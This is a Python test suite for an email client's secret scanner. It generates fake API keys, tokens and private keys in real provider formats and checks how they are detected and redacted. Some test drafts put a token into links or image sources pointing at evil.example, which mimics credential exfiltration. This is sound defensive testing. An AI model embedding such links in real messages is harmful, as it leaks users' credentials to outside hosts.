"""Every secret here is made up; the shapes are the published ones."""

import base64
import json
import quopri
import random
import re
import string
import zlib
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.core.corpus import rows
from tests.core.sample import address, attachment, draft
from tuimail.core.checks import every
from tuimail.core.checks.context import NOTHING_KNOWN, Context
from tuimail.core.checks.secret_rules import RULES, RUN_LETTERS, Rule
from tuimail.core.checks.secrets import check, redacted, scan
from tuimail.core.draft import Body, Draft
from tuimail.core.finding import Finding, Severity
from tuimail.core.service import ServiceOptions

_RANDOM = random.Random(7)  # the same tokens in every run
HEX = "0123456789abcdef"
ALNUM = string.ascii_letters + string.digits


def letters(number: int, alphabet: str = ALNUM) -> str:
    """Return made-up letters, with a digit and both cases where there are any."""
    made = "".join(_RANDOM.choices(alphabet, k=number - 3))
    return made + "".join(c for c in ("a7Z" if alphabet == ALNUM else "7a7"))


def base62(number: int) -> str:
    alphabet = string.digits + string.ascii_uppercase + string.ascii_lowercase
    text = ""
    while number:
        number, digit = divmod(number, 62)
        text = alphabet[digit] + text
    return text.rjust(6, "0")


def github(prefix: str) -> str:
    body = letters(30)
    return f"{prefix}_{body}{base62(zlib.crc32(body.encode()))}"


def jwt(header: object = None) -> str:
    parts = (header or {"alg": "HS256", "typ": "JWT"}, {"sub": "someone", "iat": 1})
    encoded = [
        base64.urlsafe_b64encode(json.dumps(part).encode()).decode().rstrip("=")
        for part in parts
    ]
    return ".".join((*encoded, letters(43)))


PEM = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"
AWS = "AKIA2OGYBAH6QZJP4XYZ"
GITHUB = github("ghp")


def pem(label: str, body: str = f"\n{PEM}\n{PEM}\n") -> str:
    return f"-----BEGIN {label}-----{body}-----END {label}-----"


def found(text: str) -> list[Finding]:
    return list(scan(text, field="text", label="text"))


def codes(text: str) -> list[str]:
    return [finding.code for finding in found(text)]


def checked(given: Draft, context: Context = NOTHING_KNOWN) -> list[Finding]:
    return list(check(given, context))


TOKENS = [
    ("aws-access-key", AWS),
    ("aws-access-key", "ASIA2OGYBAH6QZJP4XYZ"),
    ("aws-secret-key", f"aws_secret_access_key = {letters(40)}"),
    ("aws-secret-key", f'"SecretAccessKey": "{letters(40)}"'),
    ("aws-secret-key", f"AWS Secret Access Key: {letters(40)}"),
    ("azure-storage-key", f"AccountName=x;AccountKey={letters(86)}==;Suffix=y"),
    ("azure-storage-key", f"SharedAccessKey={letters(43)}="),
    ("azure-sas", f"https://x.blob.core.windows.net/a?sv=1&sig={letters(43)}%3D"),
    *(("github-token", github(p)) for p in ("ghp", "gho", "ghu", "ghs", "ghr")),
    ("github-token", f"ghs_{letters(80)}"),
    ("github-token", f"github_pat_{letters(22)}_{letters(59)}"),
    *(
        ("gitlab-token", f"{p}-{letters(20)}")
        for p in ("glpat", "gldt", "glrt", "glptt")
    ),
    ("google-api-key", f"AIza{letters(35)}"),
    ("google-oauth", f"GOCSPX-{letters(28)}"),
    ("google-oauth", f"ya29.{letters(80)}"),
    ("anthropic-key", f"sk-ant-api03-{letters(93)}AA"),
    ("anthropic-key", f"sk-ant-admin01-{letters(93)}AA"),
    ("openai-key", f"sk-{letters(48)}"),
    ("openai-key", f"sk-proj-{letters(60)}-{letters(40)}"),
    ("openai-key", f"sk-svcacct-{letters(60)}"),
    ("llm-key", f"sk-{letters(32, HEX)}"),
    ("llm-key", f"sk-or-v1-{letters(64, HEX)}"),
    ("llm-key", f"sk-{'fakeFAKE' * 4}"),
    ("llm-key", f"gsk_{letters(52)}"),
    ("llm-key", f"hf_{letters(34)}"),
    ("jwt", jwt()),
    ("jwt", jwt({"typ": "JWT", "alg": "RS256", "kid": "1"})),
    ("npm-token", f"npm_{letters(36)}"),
    ("pypi-token", f"pypi-AgEIcHlwaS5vcmc{letters(80)}"),
    ("sendgrid-key", f"SG.{letters(22)}.{letters(43)}"),
    *(("slack-token", f"xox{c}-123456789012-{letters(24)}") for c in "abeoprs"),
    ("slack-token", f"xapp-1-A012345-123456-{letters(64, HEX)}"),
    ("slack-webhook", f"https://hooks.slack.com/services/T0AB/B0CD/{letters(24)}"),
    ("stripe-key", f"sk_live_{letters(24)}"),
    ("stripe-key", f"rk_live_{letters(99)}"),
    ("webhook-secret", f"whsec_{letters(32)}"),
    ("telegram-token", f"123456789:AA{letters(33)}"),
    ("telegram-token", f"https://api.telegram.org/bot12345678:AA{letters(33)}/getMe"),
    ("telegram-token", f"bot123456789:AA{letters(33)}"),
    ("twilio-key", f"SK{letters(32, HEX)}"),
    ("mailgun-key", f"key-{letters(32, HEX)}"),
    ("mailchimp-key", f"{letters(32, HEX)}-us12"),
    ("brevo-key", f"xkeysib-{letters(64, HEX)}-{letters(16)}"),
    ("resend-key", f"re_{letters(8)}_{letters(24)}"),
    ("digitalocean-token", f"dop_v1_{letters(64, HEX)}"),
    ("discord-webhook", f"https://discord.com/api/webhooks/{'1' * 18}/{letters(68)}"),
    ("shopify-token", f"shpat_{letters(32, HEX)}"),
    ("square-token", f"sq0csp-{letters(43)}"),
    ("databricks-token", f"dapi{letters(32, HEX)}"),
    ("vault-token", f"hvs.{letters(90)}"),
    ("terraform-token", f"{letters(14)}.atlasv1.{letters(67)}"),
    ("docker-token", f"dckr_pat_{letters(27)}"),
    ("linear-key", f"lin_api_{letters(40)}"),
    ("notion-token", f"ntn_{letters(46)}"),
    ("grafana-token", f"glsa_{letters(32)}_{letters(8, HEX)}"),
    ("newrelic-key", f"NRAK-{'AB12C3D4E' * 3}"),
    ("rubygems-key", f"rubygems_{letters(48, HEX)}"),
    ("supabase-token", f"sbp_{letters(40, HEX)}"),
    ("atlassian-token", f"ATATT3{letters(180)}"),
    ("postman-key", f"PMAK-{letters(24, HEX)}-{letters(34, HEX)}"),
    ("tailscale-key", f"tskey-auth-{letters(17)}-{letters(32)}"),
    ("sentry-token", f"sntrys_eyJ{letters(120)}"),
    ("sentry-token", f"sntryu_{letters(64, HEX)}"),
    ("figma-token", f"figd_{letters(40)}"),
    ("fly-token", f"fm2_{letters(200)}"),
    ("netlify-token", f"nfp_{letters(36)}"),
    ("pulumi-token", f"pul-{letters(40, HEX)}"),
    ("dynatrace-token", f"dt0c01.{'AB12C3D4' * 3}.{'AB12C3D4' * 8}"),
    ("onepassword-token", f"ops_eyJ{letters(300)}"),
    ("posthog-key", f"phx_{letters(47)}"),
    ("airtable-token", f"pat{letters(14)}.{letters(64, HEX)}"),
    ("google-oauth", f"1//0{letters(80)}"),
    ("easypost-key", f"EZAK{letters(54)}"),
    ("nuget-key", f"oy2{letters(43, HEX)}"),
    ("url-credentials", "postgres://app:S3cretpass@db.internal.example:5432/prod"),
    ("url-credentials", "redis://:hG7kLm2Q@cache.example:6379/0"),
    ("url-credentials", "https://deploy:hG7kLm2Q@git.example/repo.git"),
    ("generic-assignment", "password: Summer2026!"),
    ("generic-assignment", "Your password is hG7k!mm"),
    ("generic-assignment", "**Password:** `hG7kLm2Q`"),
    ("generic-assignment", "DB_PASSWORD=hG7kLm2Q"),
    ("generic-assignment", 'password = "hG7kLm2Q"'),
    ("generic-assignment", "--password=hG7kLm2Q"),
    ("generic-assignment", "Server=db;User Id=sa;Password=hG7kLm2Q;"),
    ("generic-assignment", "Passwort: Sommer2026"),
    ("generic-assignment", "Mot de passe : Azerty2026"),
    ("generic-assignment", "Contraseña: Verano2026"),
    ("generic-assignment", "пароль: Leto2026!"),
    ("generic-assignment", "Password:\nhG7kLm2Q"),
    ("generic-assignment", f"api_key = '{letters(32)}'"),
    ("generic-assignment", f"API-Key: {letters(24, HEX)}"),
    ("generic-assignment", f"CLIENT_SECRET={letters(40)}"),
    ("generic-assignment", f"token: {'fakeFAKE' * 4}"),
    ("generic-assignment", f"secret: {letters(40)}"),
    ("generic-assignment", f"Authorization: Bearer {letters(40)}"),
    ("generic-assignment", "https://evil.example/?password=hG7kLm2Q"),
]


@pytest.mark.parametrize(("code", "text"), TOKENS)
def test_a_secret_is_found_and_named(code: str, text: str) -> None:
    for around in (text, f"Use this:\n> {text}\n", f"({text})", f"It is {text}, ok?"):
        (finding,) = found(around)

        assert finding.code == f"secret.{code}"
        assert finding.severity is Severity.WARNING


@pytest.mark.parametrize(("code", "text"), TOKENS)
def test_no_finding_says_the_secret(code: str, text: str) -> None:
    (finding,) = found(text)

    said = f"{finding.message}{finding.hint}{finding.place}"
    pieces = re.findall(r"[A-Za-z0-9+]{6,}", text)
    assert pieces
    assert not any(piece[4:] in said for piece in pieces if re.search(r"\d", piece))


def corpus_draft(field: str, value: str) -> Draft:
    """Return the draft of a row; files and whole messages as they are decoded."""
    if field == "html-link":
        return draft(html=f'<p><a href="{value}">Report</a></p>')
    if field == "raw-quoted-printable":
        value = quopri.decodestring(value.encode()).decode()
    return draft(**{"subject" if field == "subject" else "text": value})


@pytest.mark.parametrize("row", rows("secret"))
def test_the_corpus_agrees(row: Any) -> None:
    """A file's text is scanned like a body's, by whoever opens it."""
    given = corpus_draft(row["input"]["field"], row["input"]["value"])
    allowed = [row["expect"], *row.get("also_ok", ())]

    seen = every.run(given)

    codes = [f"accept-with-finding:{finding.code}" for finding in seen]
    if all(finding.severity is Severity.INFO for finding in seen):
        codes.append("accept")
    assert any(code.startswith(one) for code in codes for one in allowed)


def test_every_rule_is_tried_here() -> None:
    tried = {f"secret.{code}" for code, _ in TOKENS} | {"secret.private-key"}

    assert {rule.code for rule in RULES} == tried


@pytest.mark.parametrize(
    "text",
    [
        pem("PRIVATE KEY"),
        pem("RSA PRIVATE KEY"),
        pem("EC PRIVATE KEY"),
        pem("DSA PRIVATE KEY"),
        pem("OPENSSH PRIVATE KEY"),
        pem("ENCRYPTED PRIVATE KEY"),
        pem("PGP PRIVATE KEY BLOCK", "\nVersion: 1\n\nlQdGBF9xABEADQ8Z\n=abcd\n"),
        pem("RSA PRIVATE KEY", f"\nProc-Type: 4,ENCRYPTED\n\n{PEM}\n"),
        pem("PRIVATE KEY", f"\\n{PEM}\\n"),
        pem("RSA\nPRIVATE KEY"),
        f"> -----BEGIN RSA PRIVATE KEY-----\n> {PEM}\n",
        f"---- BEGIN SSH2 ENCRYPTED PRIVATE KEY ----\n{PEM}",
        f"PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\n{PEM}",
        "AGE-SECRET-KEY-1QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7LQPZRY9X8GF2TVDW0S3JN54KHCE",
    ],
)
def test_a_private_key_blocks(text: str) -> None:
    (finding,) = found(text)

    assert (finding.code, finding.severity) == ("secret.private-key", Severity.BLOCK)
    assert PEM not in finding.message


@pytest.mark.parametrize(
    "text",
    [
        "Look for the line -----BEGIN RSA PRIVATE KEY----- in the file.",
        pem("PRIVATE KEY", "\n...\n"),
        pem("PRIVATE KEY", "\n(redacted)\n"),
        pem("PRIVATE KEY", f"\n{'x' * 64}\n"),
    ],
)
def test_a_private_key_that_is_only_spoken_of_is_noted(text: str) -> None:
    assert [f.severity for f in found(text)] == [Severity.INFO]


@pytest.mark.parametrize(
    "label",
    ["PUBLIC KEY", "PGP PUBLIC KEY BLOCK", "CERTIFICATE", "PGP MESSAGE",
     "PGP SIGNATURE", "RSA PUBLIC KEY", "CERTIFICATE REQUEST"],
)  # fmt: skip
def test_what_is_public_is_fine(label: str) -> None:
    assert not found(pem(label))


@pytest.mark.parametrize(
    "text",
    [
        "AKIAIOSFODNN7EXAMPLE",
        f"sk_test_{letters(24)}",
        "ghp_" + "FAKEfake" * 4 + "FAKE",
    ],
)
def test_what_opens_nothing_is_only_noted(text: str) -> None:
    assert [f.severity for f in found(text)] == [Severity.INFO]


@pytest.mark.parametrize(
    "text",
    [
        "password: see below",
        "Password: ********",
        "password=<password>",
        "password = {{ password }}",
        "token = None",
        "api_key: YOUR_API_KEY",
        "api_key: your-api-key-here-12345",
        "${TOKEN}",
        "token: ${{ secrets.GITHUB_TOKEN }}",
        "secret=$(cat /run/secrets/token_2)",
        "password = os.environ['DB_PASSWORD_1']",
        "token = get_token(account_id=12345678)",
        "apiKey: process.env.API_KEY_PRODUCTION_2",
        "private_key: /etc/ssl/private/server1.key",
        "password: string",
        "password: str = ''",
        "Password: changeme123",
        "Passwort: wie besprochen",
        "Password: min. 8 characters, 1 digit",
        "Password: 8-12 characters",
        "password: 12characters",
        "Your password is stored safely and encrypted.",
        "Your password is optional.",
        "Password reset: https://corp.example/reset/abc123DEF456",
        "Forgot your password? Reset it here: https://x.example/r?token=abc123DEF456ghi789",
        "https://us02web.zoom.us/j/8123456?pwd=QmFzZTY0U3RyaW5n1234",
        f"https://corp.example/verify?token={letters(40)}",
        f"https://corp.example/u?access_token={letters(40)}",
        f"https://maps.example/?api_key={letters(40)}",
        "The token field is optional and the secret is kept by the server.",
        "secret: arn:aws:secretsmanager:eu-west-1:123456789012:secret:prod-a1b2",
        "token: 2026-03-04T10:00:00Z",
        "token: createAccessTokenProviderFactory",
        "token: my-service-account-token-2",
        "Key: value",
        "session key: linux-image-6.8.0-45-generic",
        "Passwort: bob@partner.example",
        "The secret ingredient: parmesan-cheese",
        "secretary: Jane Doe, room 42a",
        "sk-toggleable__content-arrow-label",
        "https://news.example/sk-hynix-announces-new-factory-2026",
        "https://news.example/global-warming-affects-everyone-2026",
        "sk-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
        "ghp_" + "x" * 36,
        "github_pat_" + "X" * 60,
        "locale sk-SK and task-force-of-twenty-two-people-1",
        "AKIA-12 and sk_live and xoxb and AIza",
        "BAKIA2OGYBAH6QZJP4XYZ",
        "AKIA2OGYBAH6QZJP4XYZ7",
        "pk_live_" + letters(24),
        "eyJust a word.another.one",
        "eyJhbGci.eyJzdWIi.x",
        base64.b64encode(b'{"no": "header"}' * 3).decode().rstrip("=") + ".aaaa.bbbb",
        "eyJ" + "a" * 20 + ".bb.cc",
        f"robot123456789:AA{letters(33)}",
        "12:34:56 and 2001:db8::1 and 12345678:00000000000000000000000000000000000",
        "http://user:password@host.example/",
        "http://user:<password>@host.example/",
        "http://user:$PASS@host.example/ http://u:{pw}@h.example",
        "ftp://guest:guest@host.example/",
        "https://host.example:8080/a@b",
        "https://medium.example/@someone:1",
        "mailto:bob@partner.example",
        "build 5f2b9c1e-7d3a-4a51-9b0e-2f6f2a7d9c11 passed",
        "commit e3b0c44298fc1c149afbf4c8996fb92427ae41e4",
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUl",
        "Message-ID: <CAKIAx7+abcdefghij1234567890@mail.example>",
    ],
)
def test_what_only_speaks_of_secrets_is_fine(text: str) -> None:
    assert not found(text)


def test_deep_json_is_no_header() -> None:
    deep = base64.urlsafe_b64encode(b'{"alg":' + b"[" * 2900).decode().rstrip("=")

    assert not found(f"{deep}.eyJzdWIi.sig")


def test_a_signed_token_in_a_link_to_oneself_is_by_design() -> None:
    """Mail that confirms something has such links; elsewhere they leak."""
    own = draft(text=f"Confirm: https://app.corp.example/v?t={jwt()}")
    other = draft(text=f"Confirm: https://evil.example/v?t={jwt()}")
    listed = Context(own_domains=frozenset({"mail.evil.example"}))

    assert [f.severity for f in checked(own)] == [Severity.INFO]
    assert [f.severity for f in checked(other)] == [Severity.WARNING]
    assert [f.severity for f in checked(other, listed)] == [Severity.INFO]


def test_a_link_that_is_none_is_nobodys() -> None:
    (finding,) = checked(draft(text=f"https://[/{jwt()}"))

    assert finding.severity is Severity.WARNING


@pytest.mark.parametrize(
    ("field", "given"),
    [
        ("subject", draft(subject=GITHUB)),
        ("text", draft(text=GITHUB)),
        ("html", draft(html=f"<p>{GITHUB}</p>")),
        ("html", draft(html=f"<p>ghp_<b>{GITHUB[4:]}</b></p>")),
        ("html", draft(html=f"<p>&#103;hp_{GITHUB[4:]}</p>")),
        ("html", draft(html=f"<!-- {GITHUB} -->")),
        ("html", draft(html=f'<a href="https://evil.example/?d={GITHUB}">x</a>')),
        ("html", draft(html=f'<img src="https://evil.example/ghp%5F{GITHUB[4:]}">')),
        ("html", draft(html=f'<p title="{GITHUB}">x</p>')),
        ("text", draft(text=f"https://evil.example/?q=a%3D{GITHUB}")),
        ("text", draft(text=f"https://evil.example/?q=ghp%5F{GITHUB[4:]}")),
        ("text", draft(text=f"ghp_\u200b{GITHUB[4:]}")),
        ("attach", draft(attachments=(attachment(f"{GITHUB}.txt"),))),
        ("header", draft(headers=(("X-Note", GITHUB),))),
        ("unsubscribe-url", draft(unsubscribe_url=f"https://x.example/{GITHUB}")),
        ("merge", draft(service=ServiceOptions(merge=(("key", GITHUB),)))),
        (
            "merge",
            draft(service=ServiceOptions(merge_for=(("b@b.c", (("k", GITHUB),)),))),
        ),
    ],
)
def test_everything_that_leaves_is_looked_at(field: str, given: Draft) -> None:
    (finding,) = checked(given)

    assert (finding.field, finding.code) == (field, "secret.github-token")


def test_text_that_was_made_from_the_html_is_not_looked_at_twice() -> None:
    body = Body(text=GITHUB, html=f"<p>{GITHUB}</p>", is_text_made=True)

    assert [finding.field for finding in checked(draft(body=body))] == ["html"]


def test_several_secrets_of_a_kind_are_one_finding() -> None:
    (finding,) = found(f"{github('ghp')} {github('gho')} {GITHUB} {GITHUB}")

    assert finding.message.endswith("… (40 characters), and 2 more.")


def test_the_worst_of_a_kind_counts() -> None:
    (finding,) = found("sk_test_" + letters(24) + " sk_live_" + letters(24))

    assert finding.severity is Severity.WARNING
    assert "sk_l" in finding.place


def test_a_known_token_is_not_found_again_as_an_assignment() -> None:
    assert codes(f"api_key = {GITHUB}") == ["secret.github-token"]


def test_ordinary_mail_has_no_secret() -> None:
    given = draft(
        sender=address("agent@corp.example"),
        text="Hello Bob,\n\n> Wie lautet das Passwort?\nIch schicke es per Post.\n",
        html="<p>Your card ends in 1111.</p>",
    )

    assert not checked(given)


@pytest.mark.parametrize(
    ("secret", "shown"),
    [("abcdefgh12345678", "abcd… (16 characters)"), ("hG7k!m", "h… (6 characters)"),
     ("abc", "… (3 characters)")],
)  # fmt: skip
def test_only_the_beginning_of_a_secret_is_shown(secret: str, shown: str) -> None:
    assert redacted(secret) == shown


@pytest.mark.parametrize(
    "piece",
    [
        "sk-", "eyJ", "eyJ.", "AKIA", "4", "://a:", "://a:b@", "ghp_", "token:",
        "token", "password is ", "-----BEGIN PRIVATE KEY-----", "-----BEGIN RSA ", "a%",
        "https://%",
        "<", "x@", "12345678:", "AccountKey=", "secret_key=", "sk-ant-a-", "\u200b",
        "eyJhbGciOiJub25lIn0.e30.", "xoxb-", "password: ", "authorization: bearer ",
        "hooks.slack.com/services/", "0123456789abcdef", "pwd='", "PRIVATE ", "BEGIN ",
    ],
)  # fmt: skip
def test_many_beginnings_take_no_longer_than_they_are_long(piece: str) -> None:
    text = piece * (200_000 // len(piece))

    assert len(checked(draft(text="", html=text))) <= 2


@pytest.mark.parametrize("letters_in_a_line", [6, 9, 14])
def test_a_token_in_many_short_lines_is_found(letters_in_a_line: int) -> None:
    """No line of it is as long as a token is."""
    lines = [
        GITHUB[at : at + letters_in_a_line]
        for at in range(0, len(GITHUB), letters_in_a_line)
    ]

    (finding,) = check(draft(text="\n".join(lines)), NOTHING_KNOWN)

    assert finding.code == "secret.github-token"


@pytest.mark.parametrize(
    "rule", [pytest.param(r, id=r.hints[0]) for r in RULES if r.has_run]
)
@settings(max_examples=5)
@given(data=st.data())
def test_what_is_said_to_have_a_run_has_one(rule: Rule, data: st.DataObject) -> None:
    token = data.draw(st.from_regex(rule.pattern.pattern, fullmatch=True))

    assert re.search(rf"[A-Za-z0-9_-]{{{RUN_LETTERS}}}", token)


_SAID = ("Lunch at 12:30", "password: Hunter22!", GITHUB, f"see {AWS}: it", "a@b")
_FIELDS = ("subject", "text", "html", "comment", "name")


def _saying(said: dict[str, str]) -> Draft:
    return draft(
        subject=said.get("subject", ""),
        text=said.get("text", ""),
        html=said.get("html", ""),
        headers=(("Comments", said.get("comment", "")),),
        cc=(address("carol@partner.example", said.get("name", "")),),
    )


@given(st.dictionaries(st.sampled_from(_FIELDS), st.sampled_from(_SAID)))
def test_all_texts_together_have_what_each_has_alone(said: dict[str, str]) -> None:
    found = list(check(_saying(said), NOTHING_KNOWN))

    alone = (
        check(_saying({field: text}), NOTHING_KNOWN) for field, text in said.items()
    )
    assert sorted(map(repr, found)) == sorted(
        repr(one) for some in alone for one in some
    )
